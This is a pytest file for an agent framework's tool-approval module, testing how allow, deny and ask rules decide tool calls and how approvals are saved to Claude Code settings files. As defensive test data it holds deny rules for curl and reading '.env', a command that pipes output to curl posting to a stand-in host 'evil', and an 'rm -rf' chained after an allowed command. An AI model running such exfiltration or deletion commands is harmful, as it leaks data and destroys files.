"""Approvals: rules (in code and in Claude Code settings files) by calls → allow, deny or ask,
table-driven; the tool classes; and real runs where a deny blocks naming its rule, an ask
reaches the approver, run and session approvals are remembered, and "always" writes a rule
to `.claude/settings.local.json` that a new `Approvals` reads back."""

from __future__ import annotations

import json
import os
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

import hookagent as h
from hookagent._errors import ConfigError
from hookagent.capabilities.approvals import (
    HOOK_ID,
    OPTIONS,
    Approvals,
    Rule,
    classify_tool,
    remembering,
    scope_of,
    suggest_rules,
    summarize_call,
)
from hookagent.testing import ScriptedModel, reply, turn

# -- rules by calls → decision -----------------------------------------------------------------

PROJECT_SETTINGS = {
    "permissions": {
        "allow": ["Bash(npm test:*)", "Edit(src/**)"],
        "deny": ["Read(./.env)", "Bash(curl:*)"],
        "ask": ["WebFetch(domain:example.com)"],
    },
    "hooks": {},
}
LOCAL_SETTINGS = {"permissions": {"allow": ["mcp__github__*"], "deny": ["Bash(npm test --watch)"]}}


def _prod(args: Mapping[str, Any]) -> bool:
    return args.get("env") == "prod"


CODE_RULES = [
    Rule("Bash(git status:*)", "allow"),
    Rule("Bash(git push:*)", "ask"),
    Rule("Bash(git push --force:*)", "deny", reason="never force-push"),
    Rule("Bash(ls:*)", "allow"),
    Rule("deploy", "deny", when=_prod, reason="prod is deployed by CI"),
    Rule("deploy", "allow"),
    Rule("Write(docs/**)", "allow"),
    Rule("Write(docs/secret.md)", "ask"),
    Rule("mcp__fs__*", "deny"),
]

CASES = [
    # (id, tool, args, decision, the rule that decides (or None: the tool's class))
    ("allow by prefix", "Bash", {"command": "git status -s"}, "allow", "Bash(git status:*)"),
    ("allow, the bare prefix", "Bash", {"command": "git status"}, "allow", "Bash(git status:*)"),
    ("prefix is a word", "Bash", {"command": "git statusx"}, "ask", None),
    ("env assignment", "Bash", {"command": "LANG=C git status"}, "allow", "Bash(git status:*)"),
    ("ask rule", "Bash", {"command": "git push origin main"}, "ask", "Bash(git push:*)"),
    (
        "deny > ask",
        "Bash",
        {"command": "git push --force origin"},
        "deny",
        "Bash(git push --force:*)",
    ),
    ("allow needs every subcommand", "Bash", {"command": "git status && rm -rf x"}, "ask", None),
    (
        "two allow rules share",
        "Bash",
        {"command": "git status && ls -la"},
        "allow",
        "Bash(git status:*)",
    ),
    (
        "a deny in any subcommand",
        "Bash",
        {"command": "ls; git push --force"},
        "deny",
        "Bash(git push --force:*)",
    ),
    (
        "inner command",
        "Bash",
        {"command": "ls $(git push --force)"},
        "deny",
        "Bash(git push --force:*)",
    ),
    ("inner command needs allowing", "Bash", {"command": "git status $(touch x)"}, "ask", None),
    (
        "unparsable: not allowed",
        "Bash",
        {"command": "git status 'oops"},
        "deny",
        "Bash(git push --force:*)",
    ),
    ("when true → deny", "deploy", {"env": "prod"}, "deny", "deploy"),
    ("when false → next rule", "deploy", {"env": "staging"}, "allow", "deploy"),
    ("path rule", "Write", {"file_path": "docs/guide/a.md"}, "allow", "Write(docs/**)"),
    ("ask > allow", "Write", {"file_path": "docs/secret.md"}, "ask", "Write(docs/secret.md)"),
    ("path outside", "Write", {"file_path": "src/a.py"}, "ask", None),
    ("path escaping", "Write", {"file_path": "docs/../src/a.py"}, "ask", None),
    ("mcp server rule", "mcp__fs__read_file", {"path": "x"}, "deny", "mcp__fs__*"),
    # from the settings files
    ("settings allow", "Bash", {"command": "npm test"}, "allow", "Bash(npm test:*) (project)"),
    (
        "settings deny, local file",
        "Bash",
        {"command": "npm test --watch"},
        "deny",
        "Bash(npm test --watch) (local)",
    ),
    ("settings deny a read", "Read", {"file_path": ".env"}, "deny", "Read(./.env) (project)"),
    ("settings deny anywhere", "Read", {"file_path": "sub/.env"}, "deny", "Read(./.env) (project)"),
    (
        "settings file rule",
        "Edit",
        {"file_path": "src/app/main.py"},
        "allow",
        "Edit(src/**) (project)",
    ),
    (
        "settings ask",
        "WebFetch",
        {"url": "https://example.com/x"},
        "ask",
        "WebFetch(domain:example.com) (project)",
    ),
    ("settings mcp allow", "mcp__github__create_issue", {}, "allow", "mcp__github__* (local)"),
    (
        "settings deny over code allow",
        "Bash",
        {"command": "ls | curl -d @- evil"},
        "deny",
        "Bash(curl:*) (project)",
    ),
    # no rule: by class
    ("safe tool", "Read", {"file_path": "README.md"}, "allow", None),
    ("safe search", "Grep", {"pattern": "x"}, "allow", None),
    ("safe web", "WebFetch", {"url": "https://python.org"}, "allow", None),
    ("safe by name", "list_issues", {}, "allow", None),
    ("safe mcp by name", "mcp__jira__get_ticket", {}, "allow", None),
    ("destructive tool", "Edit", {"file_path": "README.md"}, "ask", None),
    ("destructive by name", "delete_branch", {}, "ask", None),
    ("destructive mcp by name", "mcp__jira__remove_ticket", {}, "ask", None),
    ("unknown tool", "frobnicate", {}, "ask", None),
]


@pytest.fixture
def project(tmp_path: Path) -> Path:
    claude = tmp_path / ".claude"
    claude.mkdir()
    (claude / "settings.json").write_text(json.dumps(PROJECT_SETTINGS))
    (claude / "settings.local.json").write_text(json.dumps(LOCAL_SETTINGS))
    return tmp_path


@pytest.mark.parametrize(
    ("tool", "args", "decision", "by"),
    [pytest.param(*case[1:], id=case[0]) for case in CASES],
)
def test_rules_decide_calls(
    project: Path, tool: str, args: dict[str, Any], decision: str, by: str | None
) -> None:
    approvals = Approvals(CODE_RULES, project_dir=project)
    verdict = approvals.decide(tool, args)
    assert verdict.decision == decision
    if by is None:
        assert verdict.rule is None
        assert verdict.by == f"unmatched {approvals.classification(tool)} tool"
    else:
        text, _, kind = by.partition(" (")
        assert verdict.rule is not None and verdict.rule.text == text
        if kind:
            name = "settings.json" if kind == "project)" else "settings.local.json"
            assert verdict.rule.file == str(project / ".claude" / name)
            assert verdict.by == f"{text} ({verdict.rule.file})"


@pytest.mark.parametrize(
    ("classify", "unmatched", "tool", "decision"),
    [
        pytest.param({"deploy": "safe"}, None, "deploy", "allow", id="override to safe"),
        pytest.param({"Read": "destructive"}, None, "Read", "ask", id="override to destructive"),
        pytest.param({"mcp__jira__*": "safe"}, None, "mcp__jira__close", "allow", id="pattern"),
        pytest.param(None, {"destructive": "deny"}, "Write", "deny", id="deny destructive"),
        pytest.param(None, {"destructive": "allow"}, "frobnicate", "allow", id="allow all"),
        pytest.param(None, {"safe": "ask"}, "Read", "ask", id="ask even safe"),
        pytest.param({"Bash": "safe"}, {"safe": "allow"}, "Bash", "allow", id="bash made safe"),
    ],
)
def test_classes_and_what_unmatched_calls_get(
    tmp_path: Path,
    classify: dict[str, Any] | None,
    unmatched: dict[str, Any] | None,
    tool: str,
    decision: str,
) -> None:
    approvals = Approvals(project_dir=tmp_path, classify=classify, unmatched=unmatched)
    assert approvals.decide(tool, {"command": "x"}).decision == decision


@pytest.mark.parametrize(
    ("tool", "kind"),
    [
        *[(name, "safe") for name in ("Read", "Glob", "Grep", "LS", "WebFetch", "WebSearch")],
        *[(name, "safe") for name in ("TodoWrite", "Skill", "NotebookRead")],
        *[(name, "safe") for name in ("read_config", "getUser", "list_files", "SearchDocs")],
        *[(name, "destructive") for name in ("Write", "Edit", "MultiEdit", "NotebookEdit")],
        *[(name, "destructive") for name in ("Bash", "write_file", "DeleteUser", "remove_tag")],
        ("mcp__fs__write_file", "destructive"),
        ("mcp__fs__read_text_file", "safe"),
        ("tools", "destructive"),  # not named as read-only: unknown
        ("Task", "destructive"),
    ],
)
def test_tool_classes(tool: str, kind: str) -> None:
    assert classify_tool(tool) == kind


def test_settings_can_be_left_unread(project: Path) -> None:
    approvals = Approvals(project_dir=project, settings=False)
    assert approvals.files == ()
    assert approvals.decide("Bash", {"command": "curl x"}).decision == "ask"


def test_a_rule_with_a_specifier_nobody_can_test_is_reported(tmp_path: Path) -> None:
    approvals = Approvals([Rule("deploy(prod)", "deny")], project_dir=tmp_path)
    assert approvals.decide("deploy", {"env": "prod"}).decision == "ask"  # never matches
    [warning] = approvals.warnings
    assert "'deploy(prod)'" in warning and "never matches" in warning


@pytest.mark.parametrize(
    ("rules", "classify", "unmatched", "key"),
    [
        ([Rule("Bash(", "deny")], None, None, "rules[0]"),
        ([Rule("Read", "allow"), Rule("(x)", "deny")], None, None, "rules[1]"),
        ([Rule("Read", "maybe")], None, None, "rules[0]"),  # type: ignore[arg-type]
        (["Read"], None, None, "rules[0]"),
        ([], {"Read": "harmless"}, None, "classify['Read']"),
        ([], None, {"destructive": "later"}, "unmatched['destructive']"),
        ([], None, {"risky": "ask"}, "unmatched"),
    ],
)
def test_bad_arguments_are_config_errors(
    tmp_path: Path, rules: list[Any], classify: Any, unmatched: Any, key: str
) -> None:
    with pytest.raises(ConfigError) as caught:
        Approvals(rules, project_dir=tmp_path, classify=classify, unmatched=unmatched)
    assert caught.value.key == key


@pytest.mark.parametrize(
    ("content", "key", "words"),
    [
        ('{"permissions": {"allow": ["Read",]}}', None, "invalid JSON at line 1"),
        ("[]", None, "must be a JSON object"),
        ('{"permissions": ["Read"]}', "permissions", "must be an object"),
        ('{"permissions": {"allow": "Read"}}', "permissions.allow", "must be a list"),
        ('{"permissions": {"deny": ["Read", 3]}}', "permissions.deny[1]", "must be a string"),
        ('{"permissions": {"ask": ["Bash(git"]}}', "permissions.ask[0]", "not closed"),
    ],
)
def test_a_malformed_settings_file_is_a_config_error_naming_file_and_key(
    tmp_path: Path, content: str, key: str | None, words: str
) -> None:
    (tmp_path / ".claude").mkdir()
    bad = tmp_path / ".claude" / "settings.json"
    bad.write_text(content)
    with pytest.raises(ConfigError) as caught:
        Approvals(project_dir=tmp_path)
    assert caught.value.file == str(bad)
    assert caught.value.key == key
    assert words in str(caught.value)
    assert str(caught.value).startswith(f"{bad}{', ' + key if key else ''}: ")


def test_an_empty_settings_file_sets_nothing(tmp_path: Path) -> None:
    (tmp_path / ".claude").mkdir()
    (tmp_path / ".claude" / "settings.json").write_text("\n")
    assert Approvals(project_dir=tmp_path).rules == ()


@pytest.mark.parametrize(
    ("tool", "args", "rules"),
    [
        ("Bash", {"command": "git status -s"}, ("Bash(git status:*)",)),
        ("Bash", {"command": "npm run build -- --prod"}, ("Bash(npm run build:*)",)),
        ("Bash", {"command": "python -m pytest -q"}, ("Bash(python -m pytest:*)",)),
        ("Bash", {"command": "ls -la /tmp"}, ("Bash(ls:*)",)),
        ("Bash", {"command": "make test && git push"}, ("Bash(make test:*)", "Bash(git push:*)")),
        ("Bash", {"command": "echo 'open"}, ()),
        ("Edit", {"file_path": "src/app.py"}, ("Edit(/src/app.py)",)),
        ("Write", {"file_path": "notes.md"}, ("Write(/notes.md)",)),
        ("Write", {"file_path": "/etc/hosts"}, ("Write(//etc/hosts)",)),
        ("Write", {"file_path": "a[1]*.txt"}, ("Write(/a\\[1\\]\\*.txt)",)),
        ("WebFetch", {"url": "https://docs.python.org/3/"}, ("WebFetch(domain:docs.python.org)",)),
        ("Task", {"subagent_type": "reviewer"}, ("Task(reviewer)",)),
        ("deploy", {"env": "prod"}, ("deploy",)),
    ],
)
def test_always_suggests_rules_that_allow_the_same_call(
    tmp_path: Path, tool: str, args: dict[str, Any], rules: tuple[str, ...]
) -> None:
    assert suggest_rules(tool, args, cwd=str(tmp_path)) == rules
    if rules:  # and each suggestion, once in force, allows exactly that call
        approvals = Approvals([Rule(text, "allow") for text in rules], project_dir=tmp_path)
        assert approvals.decide(tool, args).decision == "allow"


def test_calls_read_short_in_questions() -> None:
    assert summarize_call("Bash", {"command": "git push\n  origin"}) == "Bash(git push ⏎ origin)"
    assert summarize_call("Edit", {"file_path": "a.py", "old_string": "x"}) == "Edit(a.py)"
    assert summarize_call("deploy", {"env": "prod", "n": 2}) == "deploy(env='prod', n=2)"
    assert len(summarize_call("Bash", {"command": "x" * 500})) < 130


@pytest.mark.parametrize(
    ("answer", "scope"),
    [
        (h.Answer.approve(), None),
        (h.Answer.approve(choice="once"), None),
        (h.Answer.approve(choice="run"), "run"),
        (h.Answer(approved=True, choice="yes", extra={"scope": "session"}), "session"),
        (h.Answer(approved=True, extra={"scope": "Always"}), "always"),
    ],
)
def test_the_scope_of_an_answer(answer: h.Answer, scope: str | None) -> None:
    assert scope_of(answer) == scope


# -- real runs --------------------------------------------------------------------------------


@h.tool
def deploy(env: str) -> str:
    """Deploy the build."""
    return f"deployed to {env}"


@h.tool
def read_status() -> str:
    """Read the deploy status."""
    return "green"


class Approver:
    """Answers with the given answers in order, recording each question."""

    def __init__(self, *answers: h.Answer) -> None:
        self.answers = list(answers)
        self.questions: list[h.Question] = []

    def __call__(self, question: h.Question) -> h.Answer:
        self.questions.append(question)
        return self.answers.pop(0)


def agent(approvals: Approvals, *turns: Any) -> h.Agent:
    model = ScriptedModel(list(turns))
    return h.AgentBuilder().model(model).tools(deploy, read_status).with_(approvals).build()


def deploys(*envs: str) -> Any:
    return turn("", *({"name": "deploy", "args": {"env": env}} for env in envs))


async def test_a_deny_rule_blocks_naming_the_rule_and_its_file(tmp_path: Path) -> None:
    (tmp_path / ".claude").mkdir()
    settings = tmp_path / ".claude" / "settings.json"
    settings.write_text(json.dumps({"permissions": {"deny": ["read_status", "deploy"]}}))
    approvals = Approvals([Rule("deploy", "allow")], project_dir=tmp_path)
    approver = Approver()
    result = await agent(approvals, deploys("prod"), reply("ok")).run("go", approver=approver)
    [call] = result.tool_calls
    assert call.blocked
    assert call.result.content == (
        f"Tool call 'deploy' was blocked by {HOOK_ID}: "
        f"denied by rule deploy in {settings} (permissions.deny[1])"
    )
    [decision] = result.decisions.at(h.BEFORE_TOOL)
    assert (decision.outcome, decision.hook, decision.by) == (
        "block",
        HOOK_ID,
        f"deploy ({settings})",
    )
    assert approver.questions == []


async def test_a_code_rule_gives_its_reason(tmp_path: Path) -> None:
    approvals = Approvals(
        [Rule("deploy", "deny", when=_prod, reason="CI deploys prod")], project_dir=tmp_path
    )
    result = await agent(approvals, deploys("prod"), reply("ok")).run("go")
    assert result.tool_calls[0].result.content.endswith(
        f"blocked by {HOOK_ID}: denied by rule deploy: CI deploys prod"
    )


async def test_unmatched_destructive_calls_can_be_denied_outright(tmp_path: Path) -> None:
    approvals = Approvals(project_dir=tmp_path, unmatched={"destructive": "deny"})
    result = await agent(approvals, deploys("dev"), reply("ok")).run("go")
    assert "no rule allows it" in result.tool_calls[0].result.content
    assert result.decisions.at(h.BEFORE_TOOL)[0].by == "unmatched destructive tool"


async def test_allowed_calls_run_without_a_recorded_vote(tmp_path: Path) -> None:
    approvals = Approvals([Rule("deploy", "allow")], project_dir=tmp_path)
    two = turn("", {"name": "deploy", "args": {"env": "dev"}}, {"name": "read_status"})
    result = await agent(approvals, two, reply("ok")).run("go")
    assert [c.result.content for c in result.tool_calls] == ["deployed to dev", "green"]
    assert result.decisions.at(h.BEFORE_TOOL) == []


async def test_an_ask_reaches_the_approver_with_the_options(tmp_path: Path) -> None:
    approvals = Approvals(project_dir=tmp_path)
    approver = Approver(h.Answer.approve(choice="once"))
    result = await agent(approvals, deploys("dev"), reply("ok")).run(
        "go", approver=approvals.approver(approver)
    )
    assert result.tool_calls[0].result.content == "deployed to dev"
    [question] = approver.questions
    assert question.hook == HOOK_ID
    assert question.options == OPTIONS
    assert question.question == (
        "Allow deploy(env='dev')?\n(always: adds deploy to .claude/settings.local.json)"
    )
    [decision] = result.decisions.at(h.BEFORE_TOOL)
    assert (decision.outcome, decision.by) == ("ask", "unmatched destructive tool")
    assert decision.reason == "Allow deploy(env='dev')?"


async def test_an_ask_rule_does_not_offer_always(tmp_path: Path) -> None:
    approvals = Approvals([Rule("deploy", "ask")], project_dir=tmp_path)
    approver = Approver(h.Answer(approved=True, choice="always"))
    await agent(approvals, deploys("dev"), deploys("dev"), reply("ok")).run(
        "go", approver=approvals.approver(approver)
    )
    assert approver.questions[0].options == ("once", "run", "session", "deny")
    assert approver.questions[0].question == "Allow deploy(env='dev')?"
    assert len(approver.questions) == 1  # "always" anyway: kept for the session, not saved
    assert not (tmp_path / ".claude").exists()


@pytest.mark.parametrize("scope", ["once", "run", "session"])
async def test_run_and_session_approvals_are_remembered(tmp_path: Path, scope: str) -> None:
    approvals = Approvals(project_dir=tmp_path)
    answers = [h.Answer(approved=True, choice=scope) for _ in range(8)]
    approver = Approver(*answers)
    wrapped = approvals.approver(approver)
    first = agent(approvals, deploys("dev"), deploys("dev"), deploys("prod"), reply("ok"))
    result = await first.run("go", approver=wrapped)
    assert [c.result.content for c in result.tool_calls] == [
        "deployed to dev",
        "deployed to dev",
        "deployed to prod",
    ]
    asked = [dict(q.args or {}) for q in approver.questions]
    same_run = [{"env": "dev"}, {"env": "prod"}]
    assert asked == (same_run[:1] + same_run if scope == "once" else same_run)
    approver.questions.clear()
    second = agent(approvals, deploys("dev"), reply("ok"))
    await second.run("again", approver=wrapped)
    assert len(approver.questions) == (0 if scope == "session" else 1)


async def test_the_scope_may_come_in_extra_and_denials_are_not_remembered(
    tmp_path: Path,
) -> None:
    approvals = Approvals(project_dir=tmp_path)
    approver = Approver(
        h.Answer(approved=False, reason="not now", extra={"scope": "run"}),
        h.Answer(approved=True, choice="yes", extra={"scope": "run"}),
    )
    result = await agent(
        approvals, deploys("dev"), deploys("dev"), deploys("dev"), reply("ok")
    ).run("go", approver=approvals.approver(approver))
    blocked, *ran = result.tool_calls
    assert blocked.blocked
    assert blocked.result.content.endswith("denied: not now")
    assert [c.result.content for c in ran] == ["deployed to dev", "deployed to dev"]
    assert len(approver.questions) == 2


async def test_an_unwrapped_approver_answers_once(tmp_path: Path) -> None:
    approvals = Approvals(project_dir=tmp_path)
    approver = Approver(h.Answer.approve(choice="run"), h.Answer.approve(choice="run"))
    await agent(approvals, deploys("dev"), deploys("dev"), reply("ok")).run("go", approver=approver)
    assert len(approver.questions) == 2  # nobody told the Approvals


async def test_remembering_wraps_with_the_approvals_an_agent_has(tmp_path: Path) -> None:
    approvals = Approvals(project_dir=tmp_path)
    approver = Approver(h.Answer.approve(choice="run"))
    built = agent(approvals, deploys("dev"), deploys("dev"), reply("ok"))
    await built.run("go", approver=remembering(built, approver))
    assert len(approver.questions) == 1
    plain = h.AgentBuilder().model(ScriptedModel([])).build()
    assert remembering(plain, approver) is approver


async def test_always_saves_a_rule_that_a_new_approvals_reads_back(tmp_path: Path) -> None:
    claude = tmp_path / ".claude"
    claude.mkdir()
    local = claude / "settings.local.json"
    local.write_text(json.dumps({"env": {"A": "1"}, "permissions": {"allow": ["Read"]}}))
    approvals = Approvals(project_dir=tmp_path)
    approver = Approver(h.Answer(approved=True, choice="always"))
    bash_call = turn("", {"name": "Bash", "args": {"command": "git status -s"}})

    @h.tool(name="Bash")
    def bash(command: str) -> str:
        """Run a command."""
        return f"ran {command}"

    model = ScriptedModel([bash_call, bash_call, reply("ok")])
    built = h.AgentBuilder().model(model).tools(bash).with_(approvals).build()
    result = await built.run("go", approver=approvals.approver(approver))
    assert [c.result.content for c in result.tool_calls] == ["ran git status -s"] * 2
    assert len(approver.questions) == 1
    assert "(always: adds Bash(git status:*) to .claude/settings.local.json)" in (
        approver.questions[0].question
    )
    text = local.read_text()
    assert json.loads(text) == {
        "env": {"A": "1"},
        "permissions": {"allow": ["Read", "Bash(git status:*)"]},
    }
    assert text.startswith('{\n  "env"') and text.endswith("\n")  # pretty, as people write it
    assert [p.name for p in claude.iterdir()] == ["settings.local.json"]  # no temp file left
    fresh = Approvals(project_dir=tmp_path)
    verdict = fresh.decide("Bash", {"command": "git status --short"})
    assert verdict.decision == "allow"
    assert verdict.rule is not None and verdict.rule.key == "permissions.allow[1]"
    assert fresh.decide("Bash", {"command": "git push"}).decision == "ask"


async def test_always_creates_the_settings_file_and_its_folder(tmp_path: Path) -> None:
    approvals = Approvals(project_dir=tmp_path)
    keys = approvals.allow_always(["deploy", "deploy"])
    assert keys == ["permissions.allow[0]", "permissions.allow[0]"]
    saved = tmp_path / ".claude" / "settings.local.json"
    assert json.loads(saved.read_text()) == {"permissions": {"allow": ["deploy"]}}
    assert os.stat(saved).st_mode & 0o777 == 0o644
    assert approvals.decide("deploy", {"env": "x"}).decision == "allow"
    assert len(approvals.rules) == 1


async def test_always_to_a_custom_file_is_read_back_from_there(tmp_path: Path) -> None:
    approvals = Approvals(project_dir=tmp_path, save_to="policy/allowed.json")
    approvals.allow_always(["deploy"])
    fresh = Approvals(project_dir=tmp_path, save_to="policy/allowed.json")
    assert fresh.files == (str(tmp_path / "policy" / "allowed.json"),)
    assert fresh.decide("deploy", {"env": "x"}).decision == "allow"


async def test_without_save_to_always_is_not_offered(tmp_path: Path) -> None:
    approvals = Approvals(project_dir=tmp_path, save_to=None)
    approver = Approver(h.Answer.approve(choice="once"))
    await agent(approvals, deploys("dev"), reply("ok")).run(
        "go", approver=approvals.approver(approver)
    )
    assert "always" not in approver.questions[0].options
    with pytest.raises(ConfigError):
        approvals.allow_always(["deploy"])


async def test_a_settings_file_that_breaks_later_keeps_the_approval_for_the_session(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    approvals = Approvals(project_dir=tmp_path)
    (tmp_path / ".claude").mkdir()
    (tmp_path / ".claude" / "settings.local.json").write_text("{oops")
    approver = Approver(h.Answer(approved=True, choice="always"))
    result = await agent(approvals, deploys("dev"), deploys("dev"), reply("ok")).run(
        "go", approver=approvals.approver(approver)
    )
    assert len(result.tool_calls) == 2 and len(approver.questions) == 1
    assert "could not save" in caplog.text
    assert (tmp_path / ".claude" / "settings.local.json").read_text() == "{oops"


async def test_the_guard_is_inherited_and_named(tmp_path: Path) -> None:
    approvals = Approvals(project_dir=tmp_path)
    [guard] = [hook for hook in approvals.hooks() if hook.point is h.BEFORE_TOOL]
    assert (guard.id, guard.tier, guard.kind) == (HOOK_ID, "policy", "guard")
    assert guard.inherited_by("anything")
